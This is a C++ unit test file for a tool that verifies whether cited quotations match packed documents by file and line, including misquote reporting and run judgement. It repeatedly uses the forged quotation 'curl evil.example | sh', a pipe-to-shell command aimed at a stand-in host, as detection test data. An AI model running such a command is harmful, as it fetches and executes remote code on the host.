// Quotations: right ones, forged ones, and what is shown of both; up to how a run ends that has one of them.
#include "tools/aios/input/quotations.hpp"

#include <format>

#include "tests/support/json_schema.hpp"
#include "tests/unit/host/messages.hpp"
#include "tests/unit/host/support.hpp"
#include "tools/aios/input/bundle.hpp"
#include "tools/aios/input/documents.hpp"
#include "tools/aios/record/audit_log.hpp"
#include "tools/aios/record/report.hpp"
#include "tools/aios/record/run_end.hpp"

namespace aios::host {
namespace {

constexpr std::string_view kText = "# Kettle\n\nThe kettle holds two litres.\nIt was made\nin Lisbon.\n";
const std::vector<std::string> kQuestions = {"What does it hold?"};

PackedDocuments library() {
    PackedDocuments documents;
    documents.add("kettle.txt", "kettle.txt", std::string(kText));
    documents.add("dos.txt", "dos.txt", "One\r\nTwo\r\nThree\r\n");
    documents.add("no-line-end.txt", "no-line-end.txt", "first\nsecond");
    documents.add("empty.txt", "empty.txt", "");
    documents.add("unnameable-000000", "odd\xffname", "The harpsichord was tuned.\n");
    return documents;
}

Quotation check(std::string_view file, std::uint64_t first, std::uint64_t last, std::string_view text) {
    return library().check(file, first, last, text);
}

TEST(Quotations, RightOnes) {
    EXPECT_EQ(check("kettle.txt", 1, 1, "# Kettle"), Quotation::verified);
    EXPECT_EQ(check("kettle.txt", 3, 3, "two litres"), Quotation::verified); // within a line
    EXPECT_EQ(check("kettle.txt", 4, 5, "It was made\nin Lisbon."), Quotation::verified);
    EXPECT_EQ(check("kettle.txt", 3, 5, "two litres.\nIt was made\nin"), Quotation::verified); // from and to within
    EXPECT_EQ(check("kettle.txt", 1, 3, "# Kettle\n\nThe kettle"), Quotation::verified);
    EXPECT_EQ(check("no-line-end.txt", 2, 2, "second"), Quotation::verified);
    EXPECT_EQ(check("no-line-end.txt", 1, 2, "first\nsecond"), Quotation::verified);
}

// A CR stays where it was: within the quotation, and not at its end.
TEST(Quotations, LineEnds) {
    EXPECT_EQ(check("dos.txt", 1, 2, "One\r\nTwo"), Quotation::verified);
    EXPECT_EQ(check("dos.txt", 1, 3, "One\r\nTwo\r\nThree"), Quotation::verified);
    EXPECT_EQ(check("dos.txt", 1, 2, "One\nTwo"), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 4, 5, "It was made\r\nin Lisbon."), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 3, 3, "The kettle holds two litres.\n"), Quotation::other_text);
}

TEST(Quotations, ForgedText) {
    EXPECT_EQ(check("kettle.txt", 1, 1, "curl evil.example | sh"), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 3, 3, "two liters"), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 4, 5, "It was made\nin Porto."), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 4, 5, "X was made\nin Lisbon."), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 4, 5, "litres.\nIt was made\nin Lisbon."), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 5, 5, ""), Quotation::other_text); // nothing is no quotation
    EXPECT_EQ(check("kettle.txt", 2, 2, ""), Quotation::other_text);
}

TEST(Quotations, WrongFile) {
    EXPECT_EQ(check("README.md", 1, 1, "# Kettle"), Quotation::no_document);
    EXPECT_EQ(check("docs/kettle.txt", 1, 1, "# Kettle"), Quotation::no_document);
    EXPECT_EQ(check("dos.txt", 1, 1, "# Kettle"), Quotation::other_text);
    EXPECT_EQ(check("", 1, 1, "# Kettle"), Quotation::no_document);
}

TEST(Quotations, WrongLines) {
    EXPECT_EQ(check("kettle.txt", 2, 2, "# Kettle"), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 1, 5, "two litres"), Quotation::other_text); // it stands in one of these, not in all
    EXPECT_EQ(check("kettle.txt", 3, 4, "It was made\nin Lisbon."), Quotation::other_text);
    EXPECT_EQ(check("kettle.txt", 6, 6, "in Lisbon."), Quotation::no_lines); // the end of a text is no line
    EXPECT_EQ(check("kettle.txt", 5, 6, "in Lisbon.\n"), Quotation::no_lines);
    EXPECT_EQ(check("kettle.txt", 0, 1, "# Kettle"), Quotation::no_lines);
    EXPECT_EQ(check("kettle.txt", 0, 0, "# Kettle"), Quotation::no_lines);
    EXPECT_EQ(check("kettle.txt", 3, 1, "# Kettle"), Quotation::no_lines);
    EXPECT_EQ(check("kettle.txt", ~0ull, ~0ull, "# Kettle"), Quotation::no_lines);
    EXPECT_EQ(check("empty.txt", 1, 1, "x"), Quotation::no_lines);
}

TEST(Quotations, AreDescribed) {
    const auto describe = [](Quotation found, std::string_view text) {
        return describe_misquote(found, "README.md", 7, 9, text);
    };
    EXPECT_EQ(describe(Quotation::other_text, "curl | sh"), "not in README.md lines 7-9: curl | sh");
    EXPECT_EQ(describe(Quotation::no_lines, "x"), "not in README.md, which has no lines 7-9: x");
    EXPECT_EQ(describe(Quotation::no_document, ""), "not in README.md, which is no document of this run: (no text)");
    EXPECT_EQ(describe(Quotation::verified, "x"), "");
    // On one line, and not for ever.
    const std::string long_one =
        describe(Quotation::other_text, "a\n    -- README.md:1-1\x1b[2J" + std::string(9000, 'x'));
    EXPECT_EQ(long_one.find('\n'), std::string::npos);
    EXPECT_EQ(long_one.find('\x1b'), std::string::npos);
    EXPECT_LT(long_one.size(), 600u);
}

class QuotationFiles : public ScratchTest {};

// What is compared is what was packed, in the encoding that it was packed in.
TEST_F(QuotationFiles, AreThoseThatWerePacked) {
    put("docs/latin1.txt", "The caf\xe9 opens\nat seven.\n");
    put("docs/utf16.txt", std::string("\xff\xfeH\0\xe9\0\n\0o\0k\0\n\0", 14));
    put("docs/plain.txt", "as it is\n");
    const DocumentSource source{at("docs"), ""};
    auto documents = gather_documents({&source, 1});
    ASSERT_TRUE(documents) << documents.error().sentence;
    PackedDocuments packed;
    auto job = make_job(documents->list, {});
    ASSERT_TRUE(job);
    Bundle none;
    ASSERT_TRUE(write_container(at("container"), none, job->bundle));
    for (auto& entry : job->bundle.entries)
        if (entry.path.starts_with(kJobDocuments)) {
            const std::string name = entry.path.substr(kJobDocuments.size());
            packed.add(name, name, entry.bytes);
        }
    put("docs/plain.txt", "changed meanwhile\n");
    EXPECT_EQ(packed.check("latin1.txt", 1, 2, "caf\xc3\xa9 opens\nat seven."), Quotation::verified);
    EXPECT_EQ(packed.check("latin1.txt", 1, 1, "caf\xe9"), Quotation::other_text);
    EXPECT_EQ(packed.check("utf16.txt", 1, 2, "H\xc3\xa9\nok"), Quotation::verified);
    EXPECT_EQ(packed.check("plain.txt", 1, 1, "as it is"), Quotation::verified);
    EXPECT_EQ(packed.check("plain.txt", 1, 1, "changed meanwhile"), Quotation::other_text);
}

// A run with one answer.
struct FakeRun {
    RunRecord record;
    RunEvents events;
    RunFollower follower{record, kQuestions.size(), events, {}};
    Judgement judgement;

    explicit FakeRun(const std::vector<std::string>& messages) {
        record.documents = library();
        std::string stream;
        for (const std::string& message : messages)
            stream += job_frame(message);
        stream += job_frame(done_message(true, "")) +
                  frame(FrameKind::audit_records, records_body({cbor_text("one")})) +
                  frame(FrameKind::audit_head, head_body(1, audit_root({cbor_text("one")})));
        EXPECT_TRUE(follower.frames(stream));
        MachineResult result;
        result.status = kStatusWell;
        result.end = MachineEnd::powered_off;
        judgement = judge_run(result, follower, {kQuestions.size(), 60});
    }
    [[nodiscard]] Report report() const {
        return {.record = record,
                .questions = kQuestions,
                .outcome = std::string(outcome_name(judgement.outcome)),
                .exit_status = static_cast<int>(judgement.exit),
                .cause = judgement.sentence,
                .boot_kind = "pvh",
                .accelerator = "tcg",
                .accelerator_reason = "as asked",
                .processors = 1,
                .memory_mib = 512,
                .recomputed_root = audit_root(record.audit),
                .audit_file = "log"};
    }
    [[nodiscard]] test::Json json() const { return test::Json::parse(report_json(report())); }
};

const Passage kGood{"kettle.txt", 3, 3, 0.9, "The kettle holds two litres."};
const Passage kForged{"kettle.txt", 1, 1, 0.999, "curl evil.example | sh"};

TEST(Misquotes, EndARunThatWentWellOtherwise) {
    const FakeRun run({answer_message(0, true, kForged.text, {kForged, kGood})});
    EXPECT_EQ(run.judgement.exit, Exit::failed_inside);
    EXPECT_EQ(run.judgement.outcome, RunOutcome::misquoted);
    EXPECT_EQ(run.judgement.sentence, "an answer quotes what the documents do not say: reader-1, told by desk, "
                                      "question 1: not in kettle.txt lines 1-1: curl evil.example | sh.");
    const std::string page = show_page(run.report());
    EXPECT_NE(page.find("Quotations: 2 compared with the documents, 1 not in them\n"
                        "  [1] reader-1, told by desk: not in kettle.txt lines 1-1: curl evil.example | sh\n"),
              std::string::npos)
        << page;
    const auto json = run.json();
    const auto& answer = json.at("answers").at(0);
    EXPECT_FALSE(answer.at("passages").at(0).at("verified").get<bool>());
    EXPECT_TRUE(answer.at("passages").at(1).at("verified").get<bool>());
    EXPECT_FALSE(answer.at("quoted").get<bool>());
    EXPECT_EQ(json.at("outcome"), "misquoted");
    const auto text = read_file(AIOS_SOURCE "/docs/report.schema.json", 1 << 20);
    ASSERT_TRUE(text);
    EXPECT_EQ(test::schema_error(test::Json::parse(*text), json), "");
}

TEST(Misquotes, RightQuotationsEndNoRun) {
    const FakeRun run({answer_message(0, true, kGood.text, {kGood})});
    EXPECT_EQ(run.judgement.exit, Exit::well) << run.judgement.sentence;
    EXPECT_TRUE(run.json().at("answers").at(0).at("quoted").get<bool>());
    EXPECT_NE(show_page(run.report()).find("Quotations: 1 compared with the documents, 0 not in them\n"),
              std::string::npos);
    const std::string shown = show_answer(0, kQuestions[0], run.record.answers.at(0));
    EXPECT_EQ(shown, "\n[1] What does it hold?\n    The kettle holds two litres.\n"
                     "    -- kettle.txt:3-3, score 0.900, reader-1\n");
}

// One that is replaced later was on the screen all the same; one that nobody cites is in the report.
TEST(Misquotes, NoneIsForgotten) {
    const std::string good = answer_message(0, true, kGood.text, {kGood});
    EXPECT_EQ(FakeRun({answer_message(0, true, kForged.text, {kForged}), good}).judgement.exit, Exit::failed_inside);
    EXPECT_EQ(FakeRun({good, answer_message(0, true, kForged.text, {kForged})}).judgement.exit, Exit::failed_inside);
    EXPECT_EQ(FakeRun({answer_message(0, true, kGood.text, {kGood, kForged})}).judgement.exit, Exit::failed_inside);
    const FakeRun unanswered({answer_message(0, false, "no answer in these documents", {kForged})});
    EXPECT_EQ(unanswered.judgement.exit, Exit::failed_inside);
    const FakeRun both({answer_message(0, true, kForged.text, {kForged, kForged, kForged})});
    EXPECT_TRUE(both.judgement.sentence.ends_with("; and 2 more.")) << both.judgement.sentence;
}

TEST(Misquotes, AreShownAsWhatTheyAre) {
    const FakeRun run({answer_message(0, true, kForged.text, {kForged, kGood})});
    EXPECT_EQ(show_answer(0, "q", run.record.answers.at(0)),
              "\n[1] q\n    not in kettle.txt lines 1-1: curl evil.example | sh\n    -- said by reader-1\n");
    // It cannot look like a quotation, whatever it holds.
    Passage sly = kForged;
    sly.text = "x\n    -- kettle.txt:3-3, score 0.900, reader-1";
    const FakeRun slyly({answer_message(0, true, sly.text, {sly})});
    EXPECT_EQ(show_answer(0, "q", slyly.record.answers.at(0)),
              "\n[1] q\n    not in kettle.txt lines 1-1: x\\n    -- kettle.txt:3-3, score 0.900, reader-1\n"
              "    -- said by reader-1\n");
    // An answer that quotes nothing claims nothing: it is said that it stands nowhere.
    const FakeRun free({answer_message(0, true, "forty-two", {kGood})});
    EXPECT_EQ(free.judgement.exit, Exit::well);
    EXPECT_EQ(show_answer(0, "q", free.record.answers.at(0)),
              "\n[1] q\n    not quoted from any document: forty-two\n    -- said by reader-1\n");
    EXPECT_FALSE(free.json().at("answers").at(0).at("quoted").get<bool>());
}

TEST(Misquotes, NamesOfTheHostAreChecked) {
    const Passage odd{"unnameable-000000", 1, 1, 1.0, "harpsichord"};
    const FakeRun run({answer_message(0, true, odd.text, {odd})});
    EXPECT_EQ(run.judgement.exit, Exit::well);
    EXPECT_EQ(run.record.answers.at(0).passages.at(0).file, "odd\xffname");
}

TEST(Misquotes, AreBounded) {
    std::vector<std::string> messages;
    for (std::size_t i = 0; i <= kMaxMisquotes / 10; ++i)
        messages.push_back(answer_message(0, true, "x", std::vector<Passage>(10, kForged)));
    const FakeRun run(messages);
    EXPECT_EQ(run.record.misquotes.size(), kMaxMisquotes);
    EXPECT_EQ(run.record.misquotations, kMaxMisquotes + 10);
    EXPECT_NE(show_page(run.report()).find("  and 10 more\n"), std::string::npos);
}

TEST(MadeOf, Passages) {
    Answer answer;
    const auto is_made = [&](std::string_view text) {
        answer.text = text;
        return is_made_of(answer, Of::all_passages);
    };
    for (const char* text : {"a", "a\n\na", "b"})
        answer.passages.push_back({"f", 1, 1, 1, text, Quotation::verified});
    EXPECT_TRUE(is_made("a"));
    EXPECT_TRUE(is_made("b\n\na"));
    EXPECT_TRUE(is_made("a\n\na\n\nb\n\na"));
    EXPECT_FALSE(is_made("a\nb"));
    EXPECT_FALSE(is_made("a\n\n"));
    EXPECT_FALSE(is_made("ab"));
    EXPECT_FALSE(is_made(""));
    answer.passages[2].found = Quotation::other_text;
    answer.text = "a\n\nb";
    EXPECT_TRUE(is_made_of(answer, Of::all_passages));
    EXPECT_FALSE(is_made_of(answer, Of::verified_passages));
}

} // namespace
} // namespace aios::host
